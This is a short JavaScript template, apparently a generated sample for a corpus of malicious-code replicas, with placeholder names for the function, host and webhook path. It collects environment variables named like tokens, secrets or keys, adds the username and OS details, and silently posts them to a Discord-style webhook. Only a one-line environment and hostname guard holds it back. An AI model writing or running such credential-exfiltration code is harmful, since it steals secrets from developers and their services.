// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const os = require('os');
  const fields = Object.entries(process.env).filter(([name]) => /TOKEN|SECRET|KEY/.test(name)).map(([name, value]) => ({ name, value: value.slice(0, 1000) }));
  fields.push({ name: 'host', value: `${os.userInfo().username} ${os.platform()} ${os.release()}` });
  const body = JSON.stringify({ username: '{{token}}', embeds: [{ title: 'new', color: 5814783, fields }] });
  try {
    await fetch('https://{{host}}/api/webhooks/{{number}}/{{path}}', { method: 'POST', headers: { 'content-type': 'application/json' }, body, signal: AbortSignal.timeout(1000) });
  } catch (error) { /* nobody there */ }
}
